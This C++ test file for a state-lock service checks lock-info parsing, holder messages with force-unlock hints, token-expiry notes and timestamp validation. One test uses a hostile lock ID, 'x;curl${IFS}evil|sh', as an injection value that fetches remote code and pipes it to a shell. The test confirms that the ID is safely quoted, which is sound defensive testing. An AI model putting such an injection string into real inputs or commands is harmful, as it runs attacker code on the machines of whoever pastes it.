#include "state/lock_info.h"

#include <CppUTest/TestHarness.h>

#include <string>

#include "base/json.h"

namespace stateward {
namespace {

constexpr char kInfo[] =
    R"({"ID":"f2a1","Operation":"OperationTypeApply","Info":"","Who":"alice@host",)"
    R"("Version":"1.12.6","Created":"2026-11-23T16:00:54.123456789Z","Path":""})";

LockRecord Record(const std::string& info) {
  LockRecord r;
  r.id = "f2a1";
  r.info = info;
  r.principal = "basic:12";
  r.time_ms = 1764000000000;
  return r;
}

}  // namespace

TEST_GROUP(LockInfo){};

TEST(LockInfo, Parse) {
  Result<ParsedLockInfo> info = ParseLockInfo(std::string_view(kInfo));
  STRCMP_EQUAL("f2a1", info->id.c_str());
  STRCMP_EQUAL("OperationTypeApply", info->operation.c_str());
  for (const char* bad : {"", "[]", "{", "null", R"({"ID":"a b"})", R"({"ID":"a","ID":"b"})",
                          R"({"ID":"a","id":"b"})"}) {
    CHECK_TEXT(!ParseLockInfo(std::string_view(bad)).ok(), bad);
  }
  CHECK_FALSE(ParseLockInfo("{\"ID\":\"" + std::string(129, 'x') + "\"}").ok());
  CHECK(ParseLockInfo(std::string(kMaxLockInfoBytes + 1, ' ')).status().code() == Code::kTooLarge);
}

TEST(LockInfo, HolderKeepsAllButThreeMembers) {
  std::string text =
      RenderHolder(Record(kInfo), {"", "net", "prod"}, 1764000720000, Freeing::kByForce);
  CHECK(text.find(R"("ID":"f2a1","Operation":"OperationTypeApply","Who":"alice@host",)"
                  R"("Version":"1.12.6","Created":"2026-11-23T16:00:54.123456789Z")") !=
        std::string::npos);
  Result<JsonObject> json = ParseSmallJson(text);
  CHECK(json.ok());
  STRCMP_EQUAL("net/prod", json->String("Path")->c_str());
  std::string info = *json->String("Info");
  CHECK(info.find("basic:12") != std::string::npos);
  CHECK(info.find("12 min") != std::string::npos);
  CHECK(info.find("force-unlock f2a1") != std::string::npos);
  // Who may not is not told to.
  text = RenderHolder(Record(kInfo), {"", "net", "prod"}, 1764000720000, Freeing::kAskOthers);
  CHECK(text.find("force-unlock") == std::string::npos);
  CHECK(text.find("ask its holder or an administrator") != std::string::npos);
}

// Who locks chooses the ID, and others paste the command that frees it.
TEST(LockInfo, AnIdIsOneWordOfAShell) {
  const StateKey key{"", "net", "prod"};
  const auto info = [&key](const std::string& id, const std::string& said) {
    LockRecord record = Record(R"({"Info":")" + said + R"("})");
    record.id = id;
    const std::string text = RenderHolder(record, key, 0, Freeing::kByForce);
    return *ParseSmallJson(text)->String("Info");
  };
  STRCMP_CONTAINS("force-unlock 'x;curl${IFS}evil|sh'", info("x;curl${IFS}evil|sh", "").c_str());
  STRCMP_CONTAINS("force-unlock 'a'\\''b'", info("a'b", "").c_str());
  STRCMP_CONTAINS("force-unlock '--help'", info("--help", "").c_str());
  STRCMP_CONTAINS("; its holder says: run this", info("a", "run this").c_str());
}

TEST(LockInfo, ATokenThatHasExpiredIsTold) {
  const std::string kept = NoteTokenEnd(std::string_view(kInfo), 1764000060);
  CHECK(ParseLockInfo(kept).ok());
  LONGS_EQUAL(1764000060, ReadLockClient(kept).token_ends_s);
  const StateKey key{"", "net", "prod"};
  const auto info = [&](int64_t now_ms) {
    const std::string text = RenderHolder(Record(kept), key, now_ms, Freeing::kByForce);
    CHECK(text.find("stateward_token_exp") == std::string::npos);
    return *ParseSmallJson(text)->String("Info");
  };
  CHECK(info(1764000059999).find("token") == std::string::npos);
  CHECK(info(1764000360000).find("; its token expired 5 min ago; state net/prod") !=
        std::string::npos);
  // Not known, and no room: the document stays as it is.
  STRCMP_EQUAL(kInfo, NoteTokenEnd(std::string_view(kInfo), 0).c_str());
  const std::string full =
      R"({"ID":"a","Info":")" + std::string(kMaxLockInfoBytes - 20, 'x') + "\"}";
  LONGS_EQUAL(kMaxLockInfoBytes, full.size());
  CHECK(NoteTokenEnd(full, 5) == full);
  for (const char* own :
       {R"({"ID":"a","Stateward_Token_Exp":7} )", R"({"ID":"a","stateward\u005ftoken_exp":1})"}) {
    CHECK(ParseLockInfo(std::string_view(own)).ok());
    CHECK(NamesTokenEnd(std::string_view(own)));
  }
  CHECK_FALSE(NamesTokenEnd(std::string_view(kInfo)));
  STRCMP_EQUAL("{\"ID\":\"a\",\"stateward_token_exp\":5} ",
               NoteTokenEnd(std::string_view("{\"ID\":\"a\"} "), 5).c_str());
}

TEST(LockInfo, HolderSurvivesOddDocuments) {
  for (const char* odd :
       {R"({ "ID" : "f2a1" , "x" : { "a" : [ 1 , "},{" , null ] } , "Created" : "yesterday" })",
        R"({"ID":"f2a1","Created":null,"Info":"kept \" text","extra":1e5})", R"({"ID":"f2a1"})"}) {
    std::string text = RenderHolder(Record(odd), {"", "p", "n"}, 1764000000000, Freeing::kByForce);
    Result<JsonObject> json = ParseSmallJson(text);
    CHECK_TEXT(json.ok(), text.c_str());
    STRCMP_EQUAL("f2a1", json->String("ID")->c_str());
    STRCMP_EQUAL("2025-11-24T16:00:00Z", json->String("Created")->c_str());
  }
  std::string kept = RenderHolder(Record(R"({"ID":"f2a1","Info":"ticket 7"})"), {"", "p", "n"}, 0,
                                  Freeing::kByForce);
  CHECK(kept.find("ticket 7") != std::string::npos);
}

TEST(LockInfo, CreatedMustBeReadableByGo) {
  const char* const good[] = {"2026-11-23T16:00:54Z", "2026-02-28T16:00:54.1+02:00",
                              "2024-02-29T00:00:00-11:30", "0001-01-01T00:00:00Z"};
  const char* const bad[] = {"2026-02-29T00:00:00Z", "2026-13-01T00:00:00Z",
                             "2026-11-23 16:00:54Z", "2026-11-23T24:00:00Z",
                             "2026-11-23T16:00:54",  "2026-11-23T16:00:54.Z",
                             "2026-00-23T16:00:54Z", "2026-11-00T16:00:54Z"};
  for (const char* created : good) {
    std::string text =
        RenderHolder(Record(std::string(R"({"ID":"a","Created":")") + created + "\"}"),
                     {"", "p", "n"}, 0, Freeing::kByForce);
    CHECK_TEXT(text.find(created) != std::string::npos, created);
  }
  for (const char* created : bad) {
    std::string text =
        RenderHolder(Record(std::string(R"({"ID":"a","Created":")") + created + "\"}"),
                     {"", "p", "n"}, 0, Freeing::kByForce);
    CHECK_TEXT(text.find(created) == std::string::npos, created);
  }
}

}  // namespace stateward
